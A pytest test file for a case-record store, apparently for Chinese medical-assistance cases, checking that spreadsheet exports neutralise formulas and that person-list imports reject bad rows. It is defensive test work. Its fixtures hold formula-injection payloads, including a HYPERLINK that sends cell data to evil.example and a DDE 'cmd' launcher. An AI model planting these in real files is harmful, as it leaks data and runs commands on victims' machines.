"""Files that leave the program are safe to open (no formulas, IDs kept as text, owner-only
files); files that come in are streamed and limited, and their bad rows reported and skipped."""
from __future__ import annotations

import csv
import datetime as dt
import sqlite3
import stat
import sys
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from engine.cli import main
from engine.errors import InputError
from engine.store import open_store
from engine.store import import_persons as importer
from engine.store.cases import save_cases, void_case
from engine.store.export import export_cases, headers
from engine.store.persons import find_by_id_number, grants
from ids import valid_id

A, B = valid_id("1950-02-03", 1), valid_id("1988-12-30", 2)
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+2", "-2+3", "@SUM(1,2)", "=1+1", "-=x"]


def case(id_number, name, date):
    return {"region": "wuhan", "date": date,
            "person": {"id_number": id_number, "name": name, "identities": ["subsistence"]},
            "visit": {"kind": "inpatient", "hospital_level": 2},
            "amounts": {"total": "5500.00", "policy_scope": "5000.00", "basic_paid": "3500.00", "critical_paid": "0.00"}}


@pytest.fixture
def store(tmp_path):
    with open_store(tmp_path / "d", daily_backup=False) as s:
        for i, date in enumerate(("2023-03-01", "2023-04-01", "2023-05-01", "2023-06-01", "2023-07-01", "2023-08-01")):
            save_cases(s, case(A if i % 2 else B, "甲" if i % 2 else "乙", date), operator="李四", office="城关镇")
            void_case(s, i + 1, HOSTILE[i], operator="李四")
        # a name stored by an older version, before names were checked: a formula and an escape character
        conn = s.conn
        conn.execute("PRAGMA ignore_check_constraints = 1")
        conn.execute("UPDATE persons SET name = ? WHERE id_number = ?", ("=cmd|' /C calc'!A0\x1b", B))
        yield s


def col(name):
    return next(i for i, h in enumerate(headers()) if h.startswith(name))


def owner_only(path):
    return sys.platform == "win32" or stat.S_IMODE(path.stat().st_mode) == 0o600


def test_xlsx_export_holds_no_formula(store, tmp_path):
    out = tmp_path / "r.xlsx"
    (tmp_path / "r.xlsx").write_text("old")  # overwritten, and owner-only afterwards
    assert export_cases(store, out, "xlsx", 2023, include_void=True) == 6
    assert owner_only(out)
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    book = load_workbook(out)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    sheet = book["结算明细"]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [r[col("作废原因")] for r in rows] == HOSTILE
    assert {r[col("人员姓名")] for r in rows} == {"甲", "=cmd|' /C calc'!A0\\u001b"}
    assert {r[col("证件号码")] for r in rows} == {A, B}  # text, all 18 characters
    assert all(isinstance(r[col("证件号码")], str) for r in rows)


def test_csv_export_neutralises_formulas_and_keeps_ids_as_text(store, tmp_path):
    out = tmp_path / "r.csv"
    assert export_cases(store, out, "csv", 2023, include_void=True) == 6
    assert owner_only(out)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == headers()
    body = rows[1:]
    assert [r[col("作废原因")] for r in body] == ["'" + h for h in HOSTILE]
    assert {r[col("人员姓名")] for r in body} == {"甲", "'=cmd|' /C calc'!A0\x1b"}
    assert {r[col("证件号码")] for r in body} == {"\t" + A, "\t" + B}  # a leading tab: Excel keeps the digits
    assert [r[col("医疗费总额")] for r in body] == ["5500.00"] * 6  # numbers stay numbers
    for row in body:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@")), value


def test_export_cli_refuses_a_folder_and_writes_no_half_file(store, tmp_path, capsys):
    folder = tmp_path / "out"
    folder.mkdir()
    assert main(["cases", "--data-dir", str(store.folder), "export", "--year", "2023", "--format", "xlsx",
                 "-o", str(folder)]) == 2
    assert "-o" in capsys.readouterr().err and list(folder.iterdir()) == []
    assert not list(tmp_path.glob("*.partial"))


# ---- import-persons --------------------------------------------------------------------

C, D, E, F, G = (valid_id(f"19{60 + i}-01-0{i + 1}", 10 + i) for i in range(5))


def _rows_file(path):
    book = Workbook()
    sheet = book.active
    sheet.append(["姓名", "身份证号", "身份类别", "认定日期", "终止日期", "住址"])
    sheet.append(["丙", C, "低保对象", 44931, None, "城关镇"])                 # an Excel serial date: 2023-01-05
    sheet.append(["丁", D, "特困人员", "2023-01-05 00:00:00", None, None])     # datetime text
    sheet.append(["戊\u202e", E, "低保", "2023-01-05", None, None])           # a right-to-left override in the name
    sheet.append(["=A1", F, "低保", "2023-01-05", None, None])                # a formula as text? no: a live formula
    sheet.append(["己", G, "低保", "2023-01-05", None, "城关\u2028镇"])         # a line separator in the address
    sheet.append(["庚", 420102196001010000.0, "低保", "2023-01-05", None, None])          # the ID turned into a number by Excel
    book.save(path)
    return path


def test_import_reports_bad_rows_and_keeps_good_ones(store, tmp_path, capsys):
    path = _rows_file(tmp_path / "名单.xlsx")
    code = main(["cases", "--data-dir", str(store.folder), "import-persons", str(path), "--operator", "李四", "--json"])
    out = capsys.readouterr().out
    assert code == 0
    import json

    report = json.loads(out)
    assert report["taken"] == 2
    reasons = {r["row"]: r["reason"] for r in report["rejected"]}
    assert sorted(reasons) == [4, 5, 6, 7]
    assert "姓名" in reasons[4]
    assert "公式" in reasons[5] and "姓名" in reasons[5]     # a formula with no saved value, rejected by name
    assert "住址" in reasons[6]
    assert "数字" in reasons[7]
    c = find_by_id_number(store.db, C)
    assert [(g.identity, g.granted_on) for g in grants(store.db, c["id"])] == [("subsistence", dt.date(2023, 1, 5))]
    d = find_by_id_number(store.db, D)
    assert [(g.identity, g.granted_on) for g in grants(store.db, d["id"])] == [("extreme_poverty", dt.date(2023, 1, 5))]
    assert find_by_id_number(store.db, E) is None and find_by_id_number(store.db, G) is None


def test_a_formula_with_a_saved_value_is_read_as_that_value(store, tmp_path):
    """Excel saves a formula's last computed value beside it: that value is what the row holds."""
    path = tmp_path / "f.xlsx"
    book = Workbook()
    book.active.append(["姓名", "身份证号", "身份类别", "认定日期"])
    book.active.append(["丙", C, "低保对象", "2023-01-05"])
    book.save(path)
    with zipfile.ZipFile(path) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    # the identity cell becomes a formula whose saved (cached) result is the text 低保对象
    import re

    sheet = re.sub(r'<c r="C2"[^>]*>.*?</c>', '<c r="C2" t="str"><f>"低保"&amp;"对象"</f><v>低保对象</v></c>', sheet)
    parts["xl/worksheets/sheet1.xml"] = sheet.encode()
    with zipfile.ZipFile(path, "w") as z:
        for n, data in parts.items():
            z.writestr(n, data)
    report = importer.import_persons(store, path, operator="李四")
    assert report.taken == 1 and not report.rejected


def test_import_commits_in_chunks(store, tmp_path, monkeypatch):
    """The write lock is taken per chunk of rows, never for the whole file: a window's save
    waits at most one chunk."""
    monkeypatch.setattr(importer, "CHUNK", 3)
    path = tmp_path / "list.csv"
    lines = ["姓名,身份证号,身份类别,认定日期"] + [f"人{'一二三四五六七八九十'[i]},{valid_id('1970-01-01', 100 + i)},低保,2023-01-05"
                                                for i in range(10)]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    opened = []
    real = type(store).write

    def counting(self):
        opened.append(1)
        return real(self)

    monkeypatch.setattr(type(store), "write", counting)
    report = importer.import_persons(store, path, operator="李四")
    assert report.taken == 10
    assert len(opened) == 4 + 1  # ceil(10 / 3) chunks, then the audit entry


def test_other_writers_get_in_between_chunks(store, tmp_path, monkeypatch):
    monkeypatch.setattr(importer, "CHUNK", 2)
    path = tmp_path / "list.csv"
    lines = ["姓名,身份证号,身份类别,认定日期"] + [f"人{'一二三四五六'[i]},{valid_id('1971-01-01', 200 + i)},低保,2023-01-05"
                                                for i in range(6)]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    other = sqlite3.connect(store.path, timeout=0, isolation_level=None)
    wrote = []
    real_take = importer._take

    def take(db, item, *a):
        if not db.conn.in_transaction:  # never happens: each chunk is one transaction
            raise AssertionError("row written outside a transaction")
        real_take(db, item, *a)

    def between(*a, **k):
        other.execute("BEGIN IMMEDIATE")  # a second window takes the lock between two chunks
        other.execute("INSERT INTO settings (key, value) VALUES (?, ?)", (f"k{len(wrote)}", "v"))
        other.execute("COMMIT")
        wrote.append(1)

    monkeypatch.setattr(importer, "_take", take)
    real_write = type(store).write

    def write(self):
        between()
        return real_write(self)

    monkeypatch.setattr(type(store), "write", write)
    assert importer.import_persons(store, path, operator="李四").taken == 6
    assert len(wrote) == 3 + 1
    other.close()


def test_dates_the_lists_write(tmp_path):
    parse = importer.parse_date
    assert parse(44931) == dt.date(2023, 1, 5)
    assert parse(44931.0) == dt.date(2023, 1, 5)
    assert parse("44931") == dt.date(2023, 1, 5)
    assert parse("2023-01-05 00:00:00") == dt.date(2023, 1, 5)
    assert parse("2023/1/5 8:30") == dt.date(2023, 1, 5)
    assert parse(dt.datetime(2023, 1, 5, 12)) == dt.date(2023, 1, 5)
    for bad in ("20230105xx", "44931.5", 5, "2023-01-05 25", "٢٠٢٣-01-05", True):
        with pytest.raises(ValueError):
            parse(bad)


def test_an_xlsx_over_the_row_limit_imports_nothing(store, tmp_path, monkeypatch):
    """Rows are counted while streamed: past the limit nothing at all is taken (the limit is
    lowered here to keep the test small; the real one, 200,000, is in the bad-input corpus)."""
    monkeypatch.setattr(importer, "MAX_ROWS", 3)
    path = tmp_path / "big.xlsx"
    book = Workbook()
    book.active.append(["姓名", "身份证号", "身份类别", "认定日期"])
    for i in range(4):
        book.active.append([f"人{'一二三四'[i]}", valid_id("1972-01-01", 300 + i), "低保", "2023-01-05"])
    book.save(path)
    persons = store.conn.execute("SELECT count(*) FROM persons").fetchone()[0]
    with pytest.raises(InputError) as err:
        importer.import_persons(store, path, operator="李四")
    assert "3 行" in err.value.zh
    assert store.conn.execute("SELECT count(*) FROM persons").fetchone()[0] == persons
